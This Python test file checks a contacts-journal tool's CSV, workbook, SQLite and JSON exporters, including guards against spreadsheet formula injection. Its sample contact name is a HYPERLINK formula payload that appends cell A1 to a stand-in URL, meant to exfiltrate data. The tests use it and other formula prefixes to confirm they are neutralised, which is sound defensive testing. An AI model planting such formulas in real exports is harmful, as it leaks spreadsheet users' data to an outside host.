"""The old list as CSV and as a workbook, and the journal as a database."""

import csv
import io
import json
import re
import sqlite3
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from conftest import MakeJournal
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from small_journal import SmallJournal

from generator.io.exporters.sheets import as_text, csv_text, without_guards
from generator.model.fields import Items, schema
from generator.model.json_schema import RECORDS

HOSTILE = '=HYPERLINK("http://example.com/?"&A1,"click")'
WORLD = {
    "profile.md": "---\nname: Me\ntargets: [acme]\n---\n",
    "contacts/ana.md": f"---\nname: '{HOSTILE}'\nphone: [+49 30 1234, '@home']\nemail: a@example.org\n"
    "company: Acme\nbond: 'a, \"b\"'\npersonal: {pet: a cat}\noutreach: [2026-11-02 email replied 2026-11-03]\n"
    "x_shelf: [top]\n---\n\nHello.\n",
    "contacts/ben.md": "---\nname: Ben\nintroduced_by: [ana, a ghost]\nmet_on: 2026-01-05\n---\n",
    "meetings/m.md": "---\ndate: 2026-11-20 15:00\nwith: [ana, nobody]\nduration: 1 h\nevent: mixer\n"
    "thanks: [email 2026-11-21 to ana]\nintroductions: [Chi Ng]\nasked_for_introductions: yes\n---\n\n## Notes\n\nX.\n",
    "events/mixer.md": "---\nname: Mixer\ndate: 0999-05-01\nmet: [Stranger]\n---\n",
    "updates/u.md": "---\ndate: 2026-06-01\nsubject: New\nto: [tag:mentors, ana]\ntold: [all 2026-06-02]\n---\n",
}
FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "＝1")


def rows(small: SmallJournal) -> list[dict[str, str]]:
    result = small.run("export", "csv")
    assert result.exit_code == 0, result.stderr
    return list(csv.DictReader(io.StringIO(result.stdout_bytes.decode(), newline="")))


def workbook(small: SmallJournal) -> tuple[bytes, Any]:
    data = small.run("export", "xlsx").stdout_bytes
    return data, CalamineWorkbook.from_filelike(io.BytesIO(data))


def database(data: bytes) -> sqlite3.Connection:
    base = sqlite3.connect(":memory:")
    base.deserialize(data)
    return base


def test_csv_is_the_list_of_people_with_what_is_owed_next(journal: MakeJournal) -> None:
    ana, ben = rows(journal(WORLD))
    assert ana["Name"] == f"'{HOSTILE}"
    assert (ana["Phone"], ana["Email"], ana["Company"]) == ("'+49 30 1234; '@home", "a@example.org", "Acme")
    assert (ana["First met"], ana["Last contact"], ana["In common"]) == ("2026-11-20", "2026-11-21", 'a, "b"')
    assert (ana["Next owed"].split()[0], ana["Due"]) == ("Connect", "2026-11-20")
    assert (ben["Introduced by"], ben["First met"], ben["Last contact"]) == (f"'{HOSTILE}", "2026-01-05", "")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_stays_text(journal: MakeJournal, text: str) -> None:
    small = journal({"contacts/a.md": f"---\nname: A\nrole: {json.dumps(text)}\n---\n"})
    shown = rows(small)[0]["Role"]
    # A blank before it is no part of the text, and what is left is a formula again.
    assert shown.startswith("'")
    data, book = workbook(small)
    heads, row = book.get_sheet_by_name("Contacts").to_python()
    assert str(row[heads.index("Role")]).strip() == text.strip()
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheets = [parts.read(name).decode() for name in parts.namelist() if "worksheets" in name]
    assert not any(re.search(r"<f[ >]|<hyperlink", sheet) for sheet in sheets)


def test_a_workbook_has_every_table_and_days_are_days(journal: MakeJournal) -> None:
    _, book = workbook(journal(WORLD))
    assert book.sheet_names == ["Contacts", "Meetings", "Companies", "Events", "News", "What I owe"]
    heads, ana, _ = book.get_sheet_by_name("Contacts").to_python()
    assert ana[0] == HOSTILE
    assert ana[heads.index("First met")] == date(2026, 11, 20)
    meeting = dict(zip(*book.get_sheet_by_name("Meetings").to_python(), strict=True))
    assert (meeting["Date"], meeting["Time"], meeting["With"]) == (date(2026, 11, 20), "15:00", f"{HOSTILE}; nobody")
    assert (meeting["Status"], meeting["Names I was given"]) == ("held", "Chi Ng")
    event = dict(zip(*book.get_sheet_by_name("Events").to_python(), strict=True))
    assert event["Date"] == "0999-05-01"  # a year that workbooks don't know


def test_what_is_too_long_for_a_cell_is_cut_and_says_so(journal: MakeJournal) -> None:
    _, book = workbook(journal({"contacts/a.md": f"---\nname: A\nrole: {'x' * 40_000}\n---\n"}))
    heads, row = book.get_sheet_by_name("Contacts").to_python()
    role = row[heads.index("Role")]
    assert (len(role), role[-1]) == (32_767, "…")


def test_every_field_has_a_column(journal: MakeJournal) -> None:
    _, book = workbook(journal(WORLD))
    heads, ana, _ = book.get_sheet_by_name("Contacts").to_python()
    said = dict(zip(heads, ana, strict=True))
    assert said["Outreach"] == "on: 2026-11-02, by: email, replied: 2026-11-03"
    assert (said["Personal"], said["Other fields"]) == ("pet: a cat", "x_shelf: [top]")
    meeting = dict(zip(*book.get_sheet_by_name("Meetings").to_python(), strict=True))
    assert (meeting["Duration"], meeting["Event"], meeting["Thanks"]) == (
        "60",
        "mixer",
        "by: email, on: 2026-11-21, to: [ana]",
    )
    news = dict(zip(*book.get_sheet_by_name("News").to_python(), strict=True))
    assert (news["Subject"], news["To"], news["Told"]) == ("New", "tag:mentors; ana", "who: [all], on: 2026-06-02")
    for name, kind in {"Contacts": "contact", "Meetings": "meeting", "Events": "event", "News": "update"}.items():
        heads = book.get_sheet_by_name(name).to_python()[0]
        assert len(heads) >= len(schema(RECORDS[kind])), name
        assert len(set(heads)) == len(heads), name


def test_csv_in_a_folder_is_a_file_for_each_table(journal: MakeJournal, tmp_path: Path) -> None:
    small = journal(WORLD)
    assert small.run("export", "csv", "-o", f"{tmp_path}/list/").exit_code == 0
    names = {path.name for path in (tmp_path / "list").iterdir()}
    assert names == {"contacts.csv", "meetings.csv", "companies.csv", "events.csv", "updates.csv", "owed.csv"}
    assert (tmp_path / "list/contacts.csv").read_bytes() == small.run("export", "csv").stdout_bytes


def test_a_database_keeps_its_references(journal: MakeJournal) -> None:
    base = database(journal(WORLD).run("export", "sqlite").stdout_bytes)
    assert base.execute("PRAGMA foreign_key_check").fetchall() == []
    assert base.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
    ask = base.execute
    assert ask("SELECT name, company, stage, extra FROM contacts ORDER BY slug").fetchall() == [
        (HOSTILE, "acme", "met", '{"x_shelf": ["top"]}'), ("Ben", None, "known", None),
    ]  # fmt: skip
    assert ask("SELECT value, value_as_written FROM contacts_introduced_by").fetchall() == [
        ("ana", None),
        (None, "a ghost"),
    ]
    assert ask("SELECT value, value_as_written FROM meetings_with ORDER BY position").fetchall() == [
        ("ana", None), (None, "nobody"),
    ]  # fmt: skip
    assert ask("SELECT status, duration, event, asked_for_introductions FROM meetings").fetchone() == (
        "held",
        60,
        "mixer",
        1,
    )
    sent = 'SELECT "by", "on", value FROM meetings_thanks JOIN meetings_thanks_to ON meetings_thanks_to."of" = id'
    assert ask(sent).fetchall() == [("email", "2026-11-21", "ana")]
    assert ask("SELECT value_as_written FROM updates_told_who").fetchall() == [("all",)]
    assert ask("SELECT name, value FROM contacts_personal").fetchall() == [("pet", "a cat")]


OWN = {
    "contacts/zed.md": "---\nname: Zed\nshoe: {size: [42, x]}\nextra: mine\nx_shelf: [top]\noutreach:\n"
    "- {on: 2026-11-01, by: email, mood: good, id: 7}\n---\n",
}


def test_fields_that_nobody_here_knows_are_in_json_and_in_the_database_as_written(journal: MakeJournal) -> None:
    small = journal(OWN)
    (zed,) = json.loads(small.run("export", "json").stdout)["contacts"]
    own = {"shoe": {"size": ["42", "x"]}, "extra": "mine", "x_shelf": ["top"]}
    assert {name: zed[name] for name in own} == own
    assert (zed["outreach"][0]["mood"], zed["outreach"][0]["id"]) == ("good", "7")
    base = database(small.run("export", "sqlite").stdout_bytes)
    assert json.loads(base.execute("SELECT extra FROM contacts").fetchone()[0]) == own
    ((of, extra),) = base.execute('SELECT "of", extra FROM contacts_outreach').fetchall()
    assert (of, json.loads(extra)) == ("zed", {"mood": "good", "id": "7"})


def test_every_reference_of_a_database_names_its_column(journal: MakeJournal) -> None:
    base = database(journal(WORLD).run("export", "sqlite").stdout_bytes)
    tables = [name for (name,) in base.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
    keys = [(table, *key) for table in tables for key in base.execute(f"PRAGMA foreign_key_list({table})")]
    assert len(keys) > 20
    for table, *_, to, _column, column, _, _, _ in keys:
        assert column in {name for _, name, *_ in base.execute(f"PRAGMA table_info({to})")}, table


def test_a_database_has_a_place_for_every_field(journal: MakeJournal) -> None:
    base = database(journal({}).run("export", "sqlite").stdout_bytes)
    found = base.execute(
        "SELECT m.name, p.name FROM sqlite_master m JOIN pragma_table_info(m.name) p WHERE m.type = 'table'"
    )
    columns = set(found.fetchall())
    tables = {table for table, _ in columns}
    for kind, record in RECORDS.items():
        table = record.FOLDER or kind
        for name, spec in schema(record).items():
            is_table = f"{table}_{name}" in tables
            assert is_table or (table, name) in columns, f"{table}.{name}"
            assert is_table or not (spec.many or isinstance(spec.type, Items))


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@given(st.lists(st.text(alphabet="ab=+-@;,\t|\"'\r\n ", max_size=9), min_size=2, max_size=3))
def test_a_table_holds_no_formula_at_whatever_a_program_cuts_it(separator: str, cells: list[str]) -> None:
    text = csv_text([cells])
    # Quotes count only at the beginning of what the program takes for a cell.
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        assert not [cell for cell in row if cell.lstrip(" ").startswith(("=", "+", "-", "@"))]


@given(st.text(alphabet="a=+-@＝;,\t|\"'\r\n ", max_size=12))
def test_a_guard_is_taken_away_again(cell: str) -> None:
    assert without_guards(as_text(cell)) == cell


@given(st.lists(st.text(alphabet="ab=;,\t|\"'\n ", max_size=9), min_size=2, max_size=3))
def test_a_table_is_read_back_with_no_more_than_its_guards(cells: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(csv_text([cells]), newline=""))
    assert [cell.replace("'", "") for cell in row] == [cell.replace("'", "") for cell in cells]


def test_what_holds_any_separator_stands_in_quotes() -> None:
    assert csv_text([["x;=1+1;y", "a; b", "c\td", 'e "f"', "g|h", "i"]]) == (
        '"x;\'=1+1;y","a; b","c\td","e ""f""","g|h",i\r\n'
    )
